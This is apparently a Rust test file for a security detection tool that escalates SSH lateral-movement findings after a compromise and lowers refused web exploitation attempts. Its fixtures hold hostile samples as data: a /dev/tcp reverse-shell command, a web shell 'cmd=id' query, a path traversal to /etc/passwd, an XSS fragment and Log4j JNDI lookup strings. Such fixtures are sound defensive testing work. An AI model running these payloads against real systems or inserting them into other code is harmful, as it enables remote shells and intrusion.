//! Lateral movement out of a compromised host is raised to significant.
#![allow(clippy::unwrap_used, reason = "test code may unwrap")]

mod common;
use common::*;
use kahu_finding::Level;
use kahu_reconstruct::{ESCALATION_FIELD, LATERAL_MOVEMENT_RULE, escalate_lateral_movement};

fn ssh(from: &str, to: &str, secs: i64) -> kahu_finding::Finding {
    finding(
        LATERAL_MOVEMENT_RULE,
        Level::Low,
        to,
        secs,
        &["T1021.004"],
        &[
            ("TargetUserName", "svc"),
            ("WorkstationName", from),
            ("DestinationHostname", to),
            ("Protocol", "SSH"),
        ],
    )
}

#[test]
fn movement_after_a_significant_detection_on_the_source_is_raised() {
    let mut fs = vec![
        // web shell on the web server (FQDN in Sysmon, short name in auth.log)
        finding(
            "webshell",
            Level::Critical,
            "WEB01.corp.example",
            100,
            &["T1505.003"],
            &[],
        ),
        ssh("web01", "lnx01", 50),  // before the compromise: an admin
        ssh("web01", "lnx01", 200), // after: the intruder's next hop
        ssh("ws07", "lnx01", 300),  // from a clean host
    ];
    let n = escalate_lateral_movement(&mut fs, Level::Medium);
    assert_eq!(n, 1);
    assert_eq!(fs[1].level, Level::Low);
    assert_eq!(fs[2].level, Level::Medium);
    assert_eq!(fs[3].level, Level::Low);
    let why = fs[2]
        .fields
        .iter()
        .find(|(k, _)| &**k == ESCALATION_FIELD)
        .map(|(_, v)| v.as_str())
        .unwrap();
    assert!(why.contains("web01"), "{why}");
    assert!(!fs[3].fields.iter().any(|(k, _)| &**k == ESCALATION_FIELD));
}

#[test]
fn low_detections_and_lateral_movement_itself_do_not_escalate() {
    let mut fs = vec![
        finding("noise", Level::Low, "web01", 100, &["T1059.003"], &[]),
        // a significant lateral-movement finding (e.g. tunnelled RDP) on web01
        finding(
            LATERAL_MOVEMENT_RULE,
            Level::High,
            "web01",
            100,
            &["T1572"],
            &[],
        ),
        ssh("web01", "lnx01", 200),
    ];
    assert_eq!(escalate_lateral_movement(&mut fs, Level::Medium), 0);
    assert_eq!(fs[2].level, Level::Low);
}

fn logon(account: &str, ip: &str, to: &str, secs: i64) -> kahu_finding::Finding {
    finding(
        LATERAL_MOVEMENT_RULE,
        Level::Low,
        to,
        secs,
        &["T1021.004"],
        &[
            ("TargetUserName", account),
            ("IpAddress", ip),
            ("DestinationHostname", to),
            ("Protocol", "SSH"),
        ],
    )
}

fn why(f: &kahu_finding::Finding) -> Option<&str> {
    f.fields
        .iter()
        .find(|(k, _)| &**k == ESCALATION_FIELD)
        .map(|(_, v)| v.as_str())
}

/// The probe's Linux intrusion: `deploy` was guessed from the Internet on
/// web01, then logged on to web02 from web01's address (10.0.2.11), which
/// names no host with detections. The hop stayed low, web02 was not
/// isolated. An account that acted in a significant detection is the
/// intruder's from then on; the failed guesses' victim is not.
#[test]
fn a_logon_by_an_account_the_intruder_holds_is_raised() {
    let mut guessed = finding(
        "kahu.analytic.brute_force",
        Level::High,
        "web01",
        100,
        &["T1110.001", "T1078"],
        &[
            ("TargetUserName", "deploy"),
            ("IpAddress", "185.191.171.12"),
            ("SucceededAt", "2023-11-14T22:15:00+00:00"),
        ],
    );
    guessed.title = "Brute force followed by success against deploy".into();
    // Failed guesses against alice (a Sigma rule on sshd failures): alice
    // is the victim, not the intruder's.
    let failed = finding(
        "ssh-failures",
        Level::Medium,
        "web01",
        100,
        &["T1110.001"],
        &[("user", "alice"), ("outcome", "failure")],
    );
    let mut fs = vec![
        guessed,
        failed,
        logon("deploy", "10.0.2.11", "web02", 50), // before: deploy's owner
        logon("deploy", "10.0.2.11", "web02", 200), // after: the intruder
        logon("alice", "10.0.2.12", "web02", 200),
    ];
    assert_eq!(escalate_lateral_movement(&mut fs, Level::Medium), 1);
    assert_eq!(fs[2].level, Level::Low);
    assert_eq!(fs[3].level, Level::Medium);
    assert_eq!(fs[4].level, Level::Low);
    let w = why(&fs[3]).unwrap();
    assert!(w.contains("account deploy"), "{w}");
    assert!(w.contains("Brute force followed by success"), "{w}");
}

/// The backdoor account added to sudo (auth.log `user`), and the address
/// the intruder's web shell requests and reverse shell used: the SSH logon
/// from 203.0.113.50 as sysupd came before the web shell's first request,
/// which does not clear an Internet address. An internal address counts
/// only after its detection (DHCP hands it to someone else).
#[test]
fn a_logon_from_the_intruders_address_or_as_its_backdoor_is_raised() {
    let mut fs = vec![
        finding(
            "webshell-command",
            Level::High,
            "web01",
            300,
            &["T1505.003"],
            &[("c-ip", "203.0.113.50"), ("cs-uri-query", "cmd=id")],
        ),
        finding(
            "reverse-shell",
            Level::High,
            "web01",
            90,
            &["T1059.004"],
            &[("CommandLine", "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1")],
        ),
        finding(
            "internal-scan",
            Level::Medium,
            "web01",
            300,
            &["T1046"],
            &[("IpAddress", "10.0.9.50")],
        ),
        logon("bob", "203.0.113.50", "web01", 200),
        logon("carol", "198.51.100.23", "web01", 200),
        logon("nessus", "10.0.9.50", "web01", 200),
        logon("nessus", "10.0.9.50", "web01", 400),
        logon("dave", "198.51.100.99", "web01", 400),
    ];
    assert_eq!(escalate_lateral_movement(&mut fs, Level::Medium), 3);
    let levels: Vec<Level> = fs[3..].iter().map(|f| f.level).collect();
    assert_eq!(
        levels,
        [
            Level::Medium,
            Level::Medium,
            Level::Low,
            Level::Medium,
            Level::Low
        ]
    );
    assert!(why(&fs[3]).unwrap().contains("source address 203.0.113.50"));
    assert!(why(&fs[4]).unwrap().contains("198.51.100.23"));

    // A member added to sudo by a significant detection is the intruder's.
    let mut fs = vec![
        finding(
            "admin-group",
            Level::Medium,
            "web01",
            100,
            &["T1098"],
            &[
                ("action", "group_member_add"),
                ("user", "sysupd"),
                ("group", "sudo"),
            ],
        ),
        logon("sysupd", "192.0.2.200", "web01", 150),
    ];
    assert_eq!(escalate_lateral_movement(&mut fs, Level::Medium), 1);
    assert!(why(&fs[1]).unwrap().contains("account sysupd"));
}

/// A group event's target is the group, and SYSTEM or a computer account
/// acting is no person: neither makes logons "the intruder's".
#[test]
fn groups_and_machine_accounts_do_not_taint_logons() {
    let mut group = finding(
        "member-added",
        Level::High,
        "dc01",
        100,
        &["T1098"],
        &[
            ("TargetUserName", "Administrators"),
            ("SubjectUserName", "DC01$"),
        ],
    );
    group.event_id = Some(4732);
    let mut fs = vec![
        group,
        logon("administrators", "10.0.0.7", "dc01", 200),
        logon("dc01$", "10.0.0.8", "dc01", 200),
    ];
    assert_eq!(escalate_lateral_movement(&mut fs, Level::Medium), 0);
}

/// A scanner's path traversal answered 404 and XSS answered 400 made an
/// "Initial access" incident and a drive-by compromise (probe 18 on
/// EVTX-ATTACK-SAMPLES' Tomcat log). Refused exploitation attempts are
/// low, with the reason; a 200, a 500, a Log4j lookup (it runs when
/// logged, whatever the answer) and a scanner's user agent (no
/// exploitation technique) keep their level.
#[test]
fn refused_web_exploitation_attempts_are_lowered_with_the_reason() {
    use kahu_reconstruct::{ATTEMPT_FIELD, lower_refused_web_attempts};
    let web = |level: Level, tech: &str, status: &str, extra: &[(&str, &str)]| {
        let mut fields = vec![("c-ip", "192.168.105.83"), ("sc-status", status)];
        fields.extend_from_slice(extra);
        finding("web", level, "tomcat", 0, &[tech], &fields)
    };
    let mut fs = vec![
        web(
            Level::High,
            "T1189",
            "400",
            &[("cs-uri-query", "q=<script>")],
        ),
        web(
            Level::Medium,
            "T1190",
            "404",
            &[("cs-uri-stem", "/../../etc/passwd")],
        ),
        web(
            Level::High,
            "T1505.003",
            "200",
            &[("cs-uri-stem", "/error/cmd.jsp")],
        ),
        web(Level::High, "T1190", "500", &[]),
        web(
            Level::High,
            "T1190",
            "404",
            &[("cs-user-agent", "${jndi:ldap://x/a}")],
        ),
        web(
            Level::High,
            "T1190",
            "404",
            &[("cs-uri-query", "x=%24%7Bjndi:dns://x/a%7D")],
        ),
        web(
            Level::Medium,
            "T1595.002",
            "404",
            &[("cs-user-agent", "zgrab/0.x")],
        ),
    ];
    assert_eq!(lower_refused_web_attempts(&mut fs), 2);
    let levels: Vec<Level> = fs.iter().map(|f| f.level).collect();
    assert_eq!(
        levels,
        [
            Level::Low,
            Level::Low,
            Level::High,
            Level::High,
            Level::High,
            Level::High,
            Level::Medium
        ]
    );
    let why = fs[1]
        .fields
        .iter()
        .find(|(k, _)| &**k == ATTEMPT_FIELD)
        .map(|(_, v)| v.as_str())
        .unwrap();
    assert!(
        why.contains("HTTP 404") && why.contains("lowered from medium"),
        "{why}"
    );
}
